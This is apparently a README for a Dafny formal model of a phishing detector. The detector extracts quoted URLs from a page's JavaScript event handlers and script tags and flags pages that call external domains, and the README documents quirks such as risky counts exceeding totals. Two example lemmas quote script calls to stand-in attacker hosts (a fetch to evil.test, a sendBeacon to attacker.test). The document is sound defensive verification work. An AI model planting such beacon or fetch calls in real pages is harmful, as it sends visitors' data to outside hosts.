# HtmlJs: JavaScript external-request analyzer, modelled in Dafny

`HtmlJs` is a phishing heuristic. It fetches one page and finds its JavaScript surfaces: the
inline event handlers `onclick`, `onmouseover`, `onload` and `onfocus`, and `<script>` tags. It
pulls quoted `http://` and `https://` literals out of that JavaScript with a regular expression.
It counts a surface as risky when one of those URLs has a registered domain (label plus public
suffix) different from the page's. The page is reported as phishing when anything risky was
counted.

The model has four modules:

- `Optional` (`optional.dfy`): the `Option` datatype, standing for Python's `None`.
- `UrlExtract` (`url_extract.dfy`): `extract_urls_from_js`. Python's regular-expression engine
  is written out for this one pattern.
  - `IsMatch` is the pattern's language.
  - `MatchAt` is the engine's choice at one index. The `http` alternative is tried before
    `https`. The greedy class run backs off to the last quote at or before the first character
    outside the class. `'` is in the class and `"` is not, so a `"` that ends the run can itself
    close the match.
  - `FindAll` is `re.findall`'s leftmost-first, non-overlapping scan.
- `Domains` (`domains.dfy`): `get_registered_domain` and `is_external_domain`.
  - The public-suffix split done by `tldextract` is a parameter `extract` that returns the
    `domain` and `suffix` fields.
- `HtmlJsScan` (`html_js_scan.dfy`): the counting and verdict part of `scan`.
  - The page arrives as its tags in document order. Each tag has a name, an attribute map and its
    BeautifulSoup `.string`.
  - The request arrives as its outcome: failure or HTML.
  - Pure functions (`EventElements`, `EventRisk`, `ScriptRisk`, `Verdict`) specify the loops.
  - Methods (`CollectEventElements`, `CountElementRisk`, `CountEventRisk`, `CountScriptRisk`,
    `Scan`) run the loops with `for`, `continue` and `break`, and are proved against those
    functions.

Some behaviour of the code runs against what one might expect of a risk ratio. The model follows
the code:

- Risk is counted per entry of `elements_with_events`. An element carrying k recognized
  attributes is listed k times, and every listing re-checks all four attributes. One might
  expect risky ≤ total, but `risky_count` can exceed `total_elements` (`RiskyCanExceedTotal`).
- An element whose recognized attribute is empty is still listed and counted in the total. Only
  the risk loop skips empty values.
- There is no "cannot classify" outcome for URLs. The registered domain is always the string
  `domain + "." + suffix`, so an unparsable URL is compared like any other
  (`UnparsedTargetIsExternal`).
- The verdict is `total_risky > 0`. The 20% threshold is computed but never used.

## Model

| member | source | states |
|---|---|---|
| UrlExtract.InUrlClass | source/core_engine/plugins/html_modules/html_js.py:24 | the bracketed class: ASCII letters, digits and `-._~:/?#@!$&'()*+,;=%`, so `'` is in it and `"` is not (a definition, no contract) |
| UrlExtract.IsUrlLiteral | source/core_engine/plugins/html_modules/html_js.py:24 | the first group: `http://` or `https://` followed by one or more class characters (a definition, no contract) |
| UrlExtract.IsMatch | source/core_engine/plugins/html_modules/html_js.py:24 | the whole pattern over s[i..j+1]: a quote, a URL literal, a quote (a definition, no contract) |
| UrlExtract.SchemeEnd | source/core_engine/plugins/html_modules/html_js.py:24 | after the opening quote, the alternation matches `http://` (tried first) or `https://`; the result is the index just past `://` |
| UrlExtract.ClassRunEnd | source/core_engine/plugins/html_modules/html_js.py:24 | the longest run of class characters from p: all characters before the result are in the class, and the character at the result is not |
| UrlExtract.Backtrack | source/core_engine/plugins/html_modules/html_js.py:24 | backing off the greedy `+` finds a closing quote in range, and no quote in range lies after it |
| UrlExtract.MatchAt | source/core_engine/plugins/html_modules/html_js.py:24 | whatever the engine matches at an index is a match of the pattern |
| UrlExtract.SchemeOfMatch | source/core_engine/plugins/html_modules/html_js.py:24 | any match of the pattern at i fixes the scheme the engine finds, and class characters cover the body up to the closing quote |
| UrlExtract.MatchAtGreatest | source/core_engine/plugins/html_modules/html_js.py:24 | if the pattern can match at i with closing quote j, the engine matches at i and closes at j or later (greedy) |
| UrlExtract.MatchAtLastQuote | source/core_engine/plugins/html_modules/html_js.py:24 | a match whose closing quote is the last quote in the text is exactly the engine's match |
| UrlExtract.ScanAttempts | source/core_engine/plugins/html_modules/html_js.py:25 | the findall scan over a table of attempts yields spans that stay inside the text and start at or after the scan position |
| UrlExtract.ScanTaken | source/core_engine/plugins/html_modules/html_js.py:25 | every reported span is an attempt that succeeded at its opening index |
| UrlExtract.ScanOrdered | source/core_engine/plugins/html_modules/html_js.py:25 | reported spans are left to right and disjoint: each closes before the next opens |
| UrlExtract.ScanCovers | source/core_engine/plugins/html_modules/html_js.py:25 | every successful attempt at or after the scan position is reported or lies inside an earlier reported span |
| UrlExtract.ScanSkip | source/core_engine/plugins/html_modules/html_js.py:25 | the scan passes over a stretch of failed attempts without reporting anything |
| UrlExtract.FindAll | source/core_engine/plugins/html_modules/html_js.py:25 | `re.findall` over the text from a position: spans stay inside the text and start at or after that position |
| UrlExtract.FindAllStep | source/core_engine/plugins/html_modules/html_js.py:25 | a match at i is reported, and the scan resumes just past its closing quote |
| UrlExtract.FindAllSound | source/core_engine/plugins/html_modules/html_js.py:24-25 | every reported span is a match of the pattern |
| UrlExtract.FindAllOrdered | source/core_engine/plugins/html_modules/html_js.py:24-25 | matches come left to right and never share a quote |
| UrlExtract.FindAllGreedy | source/core_engine/plugins/html_modules/html_js.py:24-25 | each reported match closes at the last possible quote |
| UrlExtract.FindAllLeftmost | source/core_engine/plugins/html_modules/html_js.py:24-25 | no match is missed: every index where the pattern matches is inside a reported span |
| UrlExtract.FindAllSkip | source/core_engine/plugins/html_modules/html_js.py:24-25 | text without quotes contributes no matches |
| UrlExtract.FindAllSingle | source/core_engine/plugins/html_modules/html_js.py:24-25 | a lone match with no other quote outside it is the only span |
| UrlExtract.UrlLiteralChars | source/core_engine/plugins/html_modules/html_js.py:24 | a URL matching the group holds no `"`, space or `<` |
| UrlExtract.ExtractUrls | source/core_engine/plugins/html_modules/html_js.py:23-25 | every returned string starts with `http://` or `https://`, has at least one character after `://`, all of them in the class, and holds no `"`, space or `<` |
| UrlExtract.ExtractedQuoted | source/core_engine/plugins/html_modules/html_js.py:24-25 | every returned URL, the last or only one included, is the text between two quotes of the input (not necessarily matching) |
| UrlExtract.ExtractedQuotedInOrder | source/core_engine/plugins/html_modules/html_js.py:24-25 | for two returned URLs, the earlier one sits between two quotes and closes before the later one opens |
| UrlExtract.ExtractNoQuote | source/core_engine/plugins/html_modules/html_js.py:24-25 | text with no quote character yields no URL |
| UrlExtract.ExtractSingle | source/core_engine/plugins/html_modules/html_js.py:24-25 | one match and no other quote yields exactly that URL |
| UrlExtract.ExtractEmbedded | source/core_engine/plugins/html_modules/html_js.py:24-25 | a URL literal between two quotes in otherwise quote-free text is extracted exactly, even when it holds single quotes |
| UrlExtract.ExtractFetchExample | source/core_engine/plugins/html_modules/html_js.py:23-25 | `fetch('https://evil.test/x')` yields exactly `["https://evil.test/x"]` |
| UrlExtract.ExtractGreedyExample | source/core_engine/plugins/html_modules/html_js.py:23-25 | `'https://a.com','https://b.com'` yields the single string `https://a.com','https://b.com` |
| Domains.RegisteredDomain | source/core_engine/plugins/html_modules/html_js.py:14-16 | the registered domain is the label, a dot and the suffix |
| Domains.RegisteredDomainSplits | source/core_engine/plugins/html_modules/html_js.py:14-16 | when the label holds no dot, splitting the registered domain at its first dot gives back the label and the suffix |
| Domains.IsExternalDomain | source/core_engine/plugins/html_modules/html_js.py:18-21 | URLs with the same label and suffix are never external to each other |
| Domains.ExternalIffPartsDiffer | source/core_engine/plugins/html_modules/html_js.py:14-21 | with dot-free labels, a target is external exactly when its (label, suffix) pair differs from the page's |
| Domains.ExternalIrreflexive | source/core_engine/plugins/html_modules/html_js.py:18-21 | no URL is external to itself |
| Domains.ExternalSymmetric | source/core_engine/plugins/html_modules/html_js.py:18-21 | swapping page and target does not change the answer |
| Domains.UnparsedTargetIsExternal | source/core_engine/plugins/html_modules/html_js.py:14-21 | a target with empty label and suffix is external to any page with a label (no "cannot classify" case) |
| HtmlJsScan.Carried | source/core_engine/plugins/html_modules/html_js.py:49-50 | a tag is listed at most once per recognized name |
| HtmlJsScan.WithAttr | source/core_engine/plugins/html_modules/html_js.py:50 | `find_all(attrs={a: True})` returns exactly the tags carrying a, whatever the value, each as often as it occurs in the page |
| HtmlJsScan.WithAttrLength | source/core_engine/plugins/html_modules/html_js.py:50 | that list has one entry per tag carrying a |
| HtmlJsScan.Listed | source/core_engine/plugins/html_modules/html_js.py:49-50 | the extended list holds only tags of the page, and each occurrence of a tag appears once per listed name it carries |
| HtmlJsScan.ListedStep | source/core_engine/plugins/html_modules/html_js.py:49-50 | one more `extend` adds, for every tag, one more copy per occurrence when it carries the new name |
| HtmlJsScan.ListedLength | source/core_engine/plugins/html_modules/html_js.py:46-50 | the extended list's length is, summed over tags, how many recognized names each carries |
| HtmlJsScan.CarriedEvents | source/core_engine/plugins/html_modules/html_js.py:46 | a tag's listings are the sum of its `onclick`, `onmouseover`, `onload` and `onfocus` attributes |
| HtmlJsScan.ListedMembers | source/core_engine/plugins/html_modules/html_js.py:49-50 | a tag is in the extended list exactly when it carries one of the names |
| HtmlJsScan.EventElements | source/core_engine/plugins/html_modules/html_js.py:46-50 | `elements_with_events` holds exactly the tags carrying a recognized attribute, each occurrence repeated once per recognized attribute it carries (so `[A, B]` with A carrying two gives A twice), and its length is, summed over tags, how many recognized attributes each carries |
| HtmlJsScan.Scripts | source/core_engine/plugins/html_modules/html_js.py:70 | the script list is exactly the page's script tags, with or without inline text, each as often as it occurs in the page |
| HtmlJsScan.TotalSurfaces | source/core_engine/plugins/html_modules/html_js.py:86 | `total_elements` is, per tag, the number of recognized attributes carried (empty values included), plus every script tag |
| HtmlJsScan.AttrValue | source/core_engine/plugins/html_modules/html_js.py:58 | `el.get(attr, '')`: a non-empty value is only ever read from an attribute the tag carries |
| HtmlJsScan.AnyExternal | source/core_engine/plugins/html_modules/html_js.py:63-64 | true exactly when some URL in the list is external |
| HtmlJsScan.SurfaceRisk | source/core_engine/plugins/html_modules/html_js.py:58-67 | one attribute adds 1 exactly when its value is non-empty and one of its extracted URLs is external, otherwise 0 |
| HtmlJsScan.ElementRisk | source/core_engine/plugins/html_modules/html_js.py:57-67 | one listing adds at most one per recognized name |
| HtmlJsScan.EventRisk | source/core_engine/plugins/html_modules/html_js.py:56-67 | `risky_count` ≤ 4 × `len(elements_with_events)` |
| HtmlJsScan.ScriptTagRisk | source/core_engine/plugins/html_modules/html_js.py:76-83 | one script adds at most 1, and nothing when its `.string` is None or empty |
| HtmlJsScan.ScriptRisk | source/core_engine/plugins/html_modules/html_js.py:75-83 | `script_risky_count` ≤ `len(script_tags)` |
| HtmlJsScan.TotalRisky | source/core_engine/plugins/html_modules/html_js.py:85 | `total_risky` ≤ 4 × `len(elements_with_events)` + `len(script_tags)` |
| HtmlJsScan.Verdict | source/core_engine/plugins/html_modules/html_js.py:34-100 | `scan` returns True exactly when the request succeeded and `total_risky > 0` |
| HtmlJsScan.CollectEventElements | source/core_engine/plugins/html_modules/html_js.py:46-50 | the extend loop builds `EventElements`, whose length is the sum of recognized attributes carried |
| HtmlJsScan.HasExternalUrl | source/core_engine/plugins/html_modules/html_js.py:63-67 | the loop with `break` finds an external URL exactly when one exists |
| HtmlJsScan.ElementRiskStep | source/core_engine/plugins/html_modules/html_js.py:57-67 | checking one more recognized name adds that attribute's risk to the element's |
| HtmlJsScan.CountElementRisk | source/core_engine/plugins/html_modules/html_js.py:57-67 | the inner loop (skipping empty values) adds `ElementRisk` for the element |
| HtmlJsScan.CountEventRisk | source/core_engine/plugins/html_modules/html_js.py:54-67 | the nested loops compute `EventRisk` over the listed elements |
| HtmlJsScan.CountScriptRisk | source/core_engine/plugins/html_modules/html_js.py:73-83 | the script loop computes `ScriptRisk` |
| HtmlJsScan.Scan | source/core_engine/plugins/html_modules/html_js.py:34-100 | returns `Verdict`: False on a failed request, otherwise True exactly when `total_risky > 0` |
| HtmlJsScan.RiskBounds | source/core_engine/plugins/html_modules/html_js.py:54-83 | at most one risky count per (listed element, recognized name) pair and per script tag |
| HtmlJsScan.NoSurfacePage | source/core_engine/plugins/html_modules/html_js.py:86-89 | a page with no recognized attribute and no script tag has no surface and returns False |
| HtmlJsScan.ElementRiskAllRisky | source/core_engine/plugins/html_modules/html_js.py:57-67 | if every carried recognized attribute is risky, one listing adds the number of carried attributes |
| HtmlJsScan.EventRiskCopies | source/core_engine/plugins/html_modules/html_js.py:56-67 | n listings of the same element add n times that element's risk |
| HtmlJsScan.RepeatedElementQuadratic | source/core_engine/plugins/html_modules/html_js.py:49-67 | a lone element with k risky recognized attributes gives k surfaces and k × k risky counts |
| HtmlJsScan.ElementRiskAtMostCarried | source/core_engine/plugins/html_modules/html_js.py:57-67 | one listing of an element adds at most the number of recognized attributes it carries |
| HtmlJsScan.SingleElementRiskAtMostSquare | source/core_engine/plugins/html_modules/html_js.py:49-67 | a lone element with k recognized attributes gives at most k × k risky counts, so the quadratic case is the worst |
| HtmlJsScan.LoneTagListed | source/core_engine/plugins/html_modules/html_js.py:46-50 | a one-tag page lists that tag exactly k times, k being the recognized attributes it carries |
| HtmlJsScan.EmbeddedUrlRisk | source/core_engine/plugins/html_modules/html_js.py:58-67 | a handler holding one quoted URL literal is risky exactly when that URL is external |
| HtmlJsScan.RiskyCanExceedTotal | source/core_engine/plugins/html_modules/html_js.py:49-86 | an anchor with `onclick` and `onload` both naming an external URL gives `total_elements` 2 and `total_risky` 4 |
| HtmlJsScan.SingleScriptPage | source/core_engine/plugins/html_modules/html_js.py:70-86 | a page of one script tag without handlers has one surface, and its risk is the script's |
| HtmlJsScan.BeaconScriptExample | source/core_engine/plugins/html_modules/html_js.py:75-100 | a page with one `sendBeacon('https://attacker.test')` script and an external attacker host has 1 surface and 1 risky count, and is reported |

## Left out

- The HTTP request (`requests.get` with its headers and 5-second timeout, and `raise_for_status`,
  lines 30-40) is network I/O. The model receives its outcome: `RequestFailed` for any
  RequestException, or the page's HTML.
- Exceptions other than RequestException are not modelled. That includes any raised by the
  parser or by `tldextract`.
- BeautifulSoup parsing, `find_all` traversal and `.string` (lines 43, 50, 70, 76) come from a
  foreign library.
  - The page is given as its tags in document order, each with an attribute map and its
    `.string`.
  - `find_all` is modelled as a filter over that sequence.
  - Multi-valued attributes, and the parser's recovery from broken markup, are not modelled.
- `tldextract` and the Public Suffix List (line 15) are a foreign library with a data file. Their
  result is the parameter `extract`, which keeps only the `domain` and `suffix` fields.
- The float ratio, `round(..., 2)` and the `> 20.0` comparison (lines 91-93) are floating point.
  Their value never reaches the result, so `Verdict` does not compute them.
- The command-line entry point (lines 104-111) and the commented-out diagnostic prints are glue.
